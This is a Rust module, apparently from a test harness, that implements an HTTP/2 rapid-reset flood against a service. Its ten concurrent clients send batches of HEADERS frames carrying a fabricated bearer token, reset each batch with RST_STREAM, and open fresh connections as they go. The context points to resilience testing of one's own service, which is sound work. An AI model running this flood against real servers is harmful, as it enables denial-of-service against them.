//! Attackers who begin requests and reset them.

use std::net::SocketAddr;
use std::time::Duration;

use sandbox::raw_http2 as h2;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::MissedTickBehavior;

/// Attackers at a time.
const ATTACKERS: u32 = 10;
/// Requests that an attacker begins before it resets them all: below the limit of streams.
const AT_ONCE: u32 = 20;
/// Requests over one connection, so that new connections are part of the attack.
const PER_CONNECTION: u32 = 1_000;

/// What an attack came to.
pub(super) struct Attacked {
    pub(super) resets: u32,
    pub(super) connections: u32,
}

/// The token of strangers: it looks like one and was never issued.
pub(super) fn made_up() -> String {
    format!("bht_{}", "A".repeat(64))
}

/// Resets `resets` requests with this token, `per_second` of them each second.
pub(super) async fn attack(address: SocketAddr, token: &str, resets: u32, per_second: u32) -> anyhow::Result<Attacked> {
    let rounds = resets.div_ceil(ATTACKERS * AT_ONCE);
    let every = Duration::from_secs(1) * (ATTACKERS * AT_ONCE) / per_second.max(1);
    let block = h2::request("GET", "/v1/orders/made-up", &[("authorization", &format!("Bearer {token}"))]);
    let attackers: Vec<_> = (0..ATTACKERS).map(|_| tokio::spawn(one(address, block.clone(), rounds, every))).collect();
    let mut sum = Attacked { resets: 0, connections: 0 };
    for attacker in attackers {
        let Attacked { resets, connections } = attacker.await??;
        sum.resets += resets;
        sum.connections += connections;
    }
    Ok(sum)
}

async fn one(address: SocketAddr, block: Vec<u8>, rounds: u32, every: Duration) -> anyhow::Result<Attacked> {
    let mut turns = tokio::time::interval(every);
    turns.set_missed_tick_behavior(MissedTickBehavior::Burst);
    let mut attacked = Attacked { resets: 0, connections: 0 };
    let mut open: Option<(TcpStream, u32)> = None;
    for _ in 0..rounds {
        turns.tick().await;
        let (mut stream, first) = match open.take().filter(|(_, begun)| *begun < PER_CONNECTION) {
            Some(kept) => kept,
            None => (connect(address).await?, 0),
        };
        attacked.connections += u32::from(first == 0);
        let streams: Vec<u32> = (first..first + AT_ONCE).map(|number| 2 * number + 1).collect();
        attacked.resets += AT_ONCE;
        // The service may end the connection at any time: then the next one is opened.
        if reset(&mut stream, &block, &streams).await.is_ok() {
            open = Some((stream, first + AT_ONCE));
        }
    }
    Ok(attacked)
}

async fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address).await?;
    stream.set_nodelay(true)?;
    stream.write_all(&h2::opening()).await?;
    Ok(stream)
}

/// Begins these requests, waits until the service has read them, and resets them.
async fn reset(stream: &mut TcpStream, block: &[u8], streams: &[u32]) -> std::io::Result<()> {
    let begins = streams.iter().flat_map(|stream| h2::frame(h2::HEADERS, h2::END_HEADERS | h2::END_STREAM, *stream, block));
    stream.write_all(&begins.chain(h2::frame(h2::PING, 0, 0, &[7; 8])).collect::<Vec<u8>>()).await?;
    // Whatever the service says by now is read, so that nothing piles up; its acknowledgement is among it.
    let mut buffer = vec![0; 64 * 1024];
    if stream.read(&mut buffer).await? == 0 {
        return Err(std::io::ErrorKind::ConnectionReset.into());
    }
    let resets = streams.iter().flat_map(|stream| h2::frame(h2::RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
    stream.write_all(&resets.collect::<Vec<u8>>()).await?;
    while stream.try_read(&mut buffer).is_ok_and(|read| read > 0) {}
    Ok(())
}
